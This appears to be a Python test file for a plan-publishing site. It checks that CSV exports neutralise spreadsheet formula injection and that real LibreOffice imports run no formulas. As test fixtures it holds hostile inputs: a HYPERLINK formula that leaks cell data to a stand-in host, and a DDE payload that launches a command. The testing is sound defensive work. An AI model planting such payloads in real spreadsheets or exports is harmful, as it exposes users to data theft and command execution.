"""No formula injection through the open data: a plan text such as
=HYPERLINK("http://…?leak="&A2,"click") must reach a spreadsheet as text.

The CSV puts a single quote in front of every cell a spreadsheet could take
for a formula (OWASP, "CSV Injection"); real LibreOffice imports it with
formulas evaluated and spaces trimmed and must run none of them. The JSON and
the ODS keep the exact values.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from lxml import etree

from plansite.model import Office, Plan
from plansite.outline.records import FIELDS, action_records
from plansite.outline.wording import OPEN_DATA_FACTS
from plansite.source.load import load_site
from plansite.writers.ods import SHEET_NAME, render_ods
from plansite.writers.opendata import neutralised_cell, original_cell, render_csv, render_plan_json, render_rows_json

from .conftest import SEED_PLAN_ID, SHIPPED_DATA
from .test_odf_downloads import GENERATED_AT, NS, odf_text, q

LEAK = '=HYPERLINK("http://example.invalid/?leak="&A2,"click")'
# Action texts: formulas, signs, DDE, a formula after spaces or a line break, a leading quote, and harmless lookalikes.
HOSTILE_TEXTS = (
    LEAK,
    "=1+2",
    "+1+2",
    "-1+2",
    "- 以連字號開頭的條列文字",
    "@SUM(1+1)",
    "  =1+2",
    "\u3000=1+2",
    "\n=1+2",
    "'=1+2",
    "'引號開頭",
    "＝1+2（全形等號，試算表不當公式）",
    "1+2=3（等號在中間）",
)
HOSTILE_DEPARTMENTS = ("=1+2", "@SUM(1+1)")
HOSTILE_NOTE = "+cmd|' /C calc'!A0"
HOSTILE_STRATEGY_TITLE = '=HYPERLINK("http://example.invalid/?title="&B2,"title")'
HOSTILE_FACET_TITLE = "-1+2 面向"


def formula_like(cell: str) -> bool:
    """What OWASP says a spreadsheet may run: a cell starting with = + - @ tab or CR (also after spaces, which an import may trim)."""
    return cell.startswith(("\t", "\r")) or cell.lstrip().startswith(("=", "+", "-", "@"))


# -- a copy of the shipped plan, edited as data


def edited_site(folder: Path, edit: Callable[[dict[str, Any]], None]) -> tuple[Plan, Office]:
    """The seed plan with `edit` applied to its YAML data, loaded through the real loader and checks."""
    data = folder / "plan_data"
    shutil.copytree(SHIPPED_DATA, data)
    plan_file = data / "plans" / f"{SEED_PLAN_ID}.yaml"
    document = yaml.safe_load(plan_file.read_text(encoding="utf-8"))
    edit(document)
    plan_file.write_text(yaml.safe_dump(document, allow_unicode=True, sort_keys=False, width=10**9), encoding="utf-8")
    site = load_site(data).site
    return next(plan for plan in site.plans if plan.id == SEED_PLAN_ID), site.office


def all_actions(document: dict[str, Any]) -> Iterator[dict[str, Any]]:
    for facet in document["execution"]["facets"]:
        for strategy in facet["strategies"]:
            for holder in strategy.get("substrategies", [strategy]):
                yield from holder["actions"]


def _make_hostile(document: dict[str, Any]) -> None:
    complete = [action for action in all_actions(document) if action.get("source", "complete") == "complete" and "text" in action]
    for action, text in zip(complete, HOSTILE_TEXTS, strict=False):
        action["text"] = text
    complete[0]["departments"] = list(HOSTILE_DEPARTMENTS)
    document["departments"] += list(HOSTILE_DEPARTMENTS)
    complete[1]["note"] = HOSTILE_NOTE
    last_facet = document["execution"]["facets"][-1]
    last_facet.update(number=None, title=HOSTILE_FACET_TITLE)
    last_facet["strategies"][-1].update(number=None, title=HOSTILE_STRATEGY_TITLE)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Plan, Office]:
    plan, office = edited_site(tmp_path_factory.mktemp("hostile"), _make_hostile)
    values = {value for record in action_records(plan) for value in record.values()}
    missing = {*HOSTILE_TEXTS, "、".join(HOSTILE_DEPARTMENTS), HOSTILE_NOTE, HOSTILE_STRATEGY_TITLE, HOSTILE_FACET_TITLE} - values
    assert not missing, f"the edit did not reach the records: {missing}"
    return plan, office


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


# -- the rule itself


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r\n=1+2", "'\r\n=1+2"),
        ("\tx", "'\tx"),
        ("  =1+2", "'  =1+2"),
        ("\u3000-1", "'\u3000-1"),
        ("'x", "''x"),
        ("'=1+2", "''=1+2"),
        ("(1)", "(1)"),
        ("1+2=3", "1+2=3"),
        ("＝1+2", "＝1+2"),
        (" x", " x"),
        ("", ""),
    ],
)
def test_a_cell_that_could_start_a_formula_gets_one_leading_quote_and_nothing_else_changes(value: str, cell: str) -> None:
    assert neutralised_cell(value) == cell
    assert original_cell(cell) == value


# -- the files


def test_every_hostile_cell_of_the_csv_is_neutralised_and_recovers_exactly(hostile: tuple[Plan, Office]) -> None:
    plan, _ = hostile
    rows = csv_rows(render_csv(plan))
    records = action_records(plan)
    assert rows[0] == [field.label for field in FIELDS]
    assert len(rows) - 1 == len(records)
    prefixed = 0
    for row, record in zip(rows[1:], records, strict=True):
        for cell, field in zip(row, FIELDS, strict=True):
            value = record[field.key].replace("\n", "\r\n")
            assert not formula_like(cell), (field.key, cell)
            assert original_cell(cell) == value
            if formula_like(value) or value.startswith("'"):
                assert cell == "'" + value
                prefixed += 1
            else:
                assert cell == value
    # 10 texts, the departments, the note, and every row of the hostile strategy and facet.
    assert prefixed >= 14


def test_every_csv_field_is_quoted(hostile: tuple[Plan, Office]) -> None:
    plan, _ = hostile
    lines = render_csv(plan).decode("utf-8-sig").split("\r\n")
    # A line that starts a record (multi-line cells aside) starts with a quote.
    assert lines[0].startswith('"') and lines[0].endswith('"')
    assert f'"\'{LEAK.replace(chr(34), chr(34) * 2)}"' in render_csv(plan).decode("utf-8-sig")


def test_json_and_ods_keep_the_exact_values(hostile: tuple[Plan, Office]) -> None:
    plan, office = hostile
    records = action_records(plan)
    assert json.loads(render_rows_json(plan, office))["rows"] == records
    whole = render_plan_json(plan, office).decode("utf-8")
    assert [text for text in HOSTILE_TEXTS if f'"text": {json.dumps(text, ensure_ascii=False)}' not in whole] == []

    content = etree.fromstring(zipfile.ZipFile(io.BytesIO(render_ods(plan, office, GENERATED_AT))).read("content.xml"))
    assert content.xpath("//table:table-cell[@table:formula]", namespaces=NS) == []
    sheet = content.xpath(f"//table:table[@table:name='{SHEET_NAME}']", namespaces=NS)[0]
    rows = sheet.xpath(".//table:table-row", namespaces=NS)
    assert len(rows) - 1 == len(records)
    for row, record in zip(rows[1:], records, strict=True):
        cells = row.xpath("table:table-cell", namespaces=NS)
        for cell, field in zip(cells, FIELDS, strict=True):
            value = record[field.key]
            assert cell.get(q("office:value-type")) == ("string" if value else None)
            assert "\n".join(odf_text(paragraph).removesuffix("\n") for paragraph in cell) == value


def test_the_open_data_page_explains_the_quote_and_how_to_remove_it() -> None:
    facts = dict(OPEN_DATA_FACTS)
    assert "Excel 使用提醒" in facts
    explanation = facts["CSV 公式防護"]
    for said in ("=", "+", "-", "@", "Tab", "CR", "單引號", "刪去", "JSON", "ODS", "原值"):
        assert said in explanation


# -- what LibreOffice does with it


def libreoffice_import(csv_file: Path, work: Path, *, trim_spaces: bool) -> etree._Element:
    """content.xml of LibreOffice Calc's own import of `csv_file`, formulas evaluated (the risky setting)."""
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice (soffice) is required: apt-get install libreoffice-calc-nogui"
    out = work / f"out-{trim_spaces}"
    # Tokens: comma, double quote, UTF-8, from line 1, no column formats, default language, quoted fields not
    # forced to text, no special numbers, (2 export tokens), trim spaces, (export token), evaluate formulas.
    options = f"44,34,76,1,,0,false,false,false,false,{str(trim_spaces).lower()},-1,true"
    result = subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={(work / 'profile').as_uri()}",
            "--headless",
            "--norestore",
            f"--infilter=CSV:{options}",
            "--convert-to",
            "ods",
            "--outdir",
            str(out),
            str(csv_file),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode == 0, result.stderr
    converted = out / (csv_file.stem + ".ods")
    assert converted.is_file(), f"LibreOffice did not convert {csv_file.name}: {result.stderr}"
    return etree.fromstring(zipfile.ZipFile(converted).read("content.xml"))


def sheet_cells(content: etree._Element) -> list[list[etree._Element]]:
    """The first sheet's cells row by row, repeated cells expanded, trailing empty ones dropped."""
    rows = []
    for row in content.xpath("//table:table[1]/table:table-row", namespaces=NS):
        cells: list[etree._Element] = []
        for cell in row.xpath("table:table-cell", namespaces=NS):
            cells += [cell] * int(cell.get(q("table:number-columns-repeated"), "1"))
        while cells and len(cells[-1]) == 0:
            cells.pop()
        rows.append(cells)
    return rows


def cell_text(cell: etree._Element) -> str:
    return "\n".join(odf_text(paragraph).removesuffix("\n") for paragraph in cell.xpath("text:p", namespaces=NS))


@pytest.mark.slow
@pytest.mark.parametrize("trim_spaces", [False, True], ids=["as-is", "trim-spaces"])
def test_libreoffice_runs_no_formula_from_the_csv_and_shows_each_cell_literally(hostile: tuple[Plan, Office], tmp_path: Path, trim_spaces: bool) -> None:
    plan, _ = hostile
    content = render_csv(plan)
    csv_file = tmp_path / "plan.csv"
    csv_file.write_bytes(content)
    imported = libreoffice_import(csv_file, tmp_path, trim_spaces=trim_spaces)
    assert imported.xpath("//table:table-cell[@table:formula]", namespaces=NS) == []
    expected = csv_rows(content)
    rows = sheet_cells(imported)
    assert len(rows) == len(expected)
    literal = 0
    for row, expected_row in zip(rows, expected, strict=True):
        texts = [cell_text(cell) for cell in row]
        want = [cell.replace("\r\n", "\n") for cell in expected_row]
        while want and want[-1] == "":
            want.pop()
        if trim_spaces:  # the import trims both ends of a cell; the leading quote keeps the formula text inert
            want = [cell.strip(" ") for cell in want]
        assert texts == want
        for cell, text in zip(row, texts, strict=True):
            if text:
                assert cell.get(q("office:value-type")) == "string", text
        literal += sum(text in ("'=1+2", "'" + LEAK) for text in texts)
    assert literal == 2  # =1+2 stays that text, not 3; the HYPERLINK stays its text, no link


@pytest.mark.slow
def test_the_same_libreoffice_import_does_run_formulas_from_an_unprotected_csv(hostile: tuple[Plan, Office], tmp_path: Path) -> None:
    """The check above can fail: written without the quote, LibreOffice runs =1+2 and the HYPERLINK."""
    plan, _ = hostile
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    for record in action_records(plan):
        writer.writerow([record[field.key] for field in FIELDS])
    csv_file = tmp_path / "unprotected.csv"
    csv_file.write_bytes(("\ufeff" + buffer.getvalue()).encode("utf-8"))
    imported = libreoffice_import(csv_file, tmp_path, trim_spaces=False)
    formulas = [cell.get(q("table:formula")) for cell in imported.xpath("//table:table-cell[@table:formula]", namespaces=NS)]
    assert "of:=1+2" in formulas
    assert any(formula.startswith("of:=HYPERLINK(") for formula in formulas)
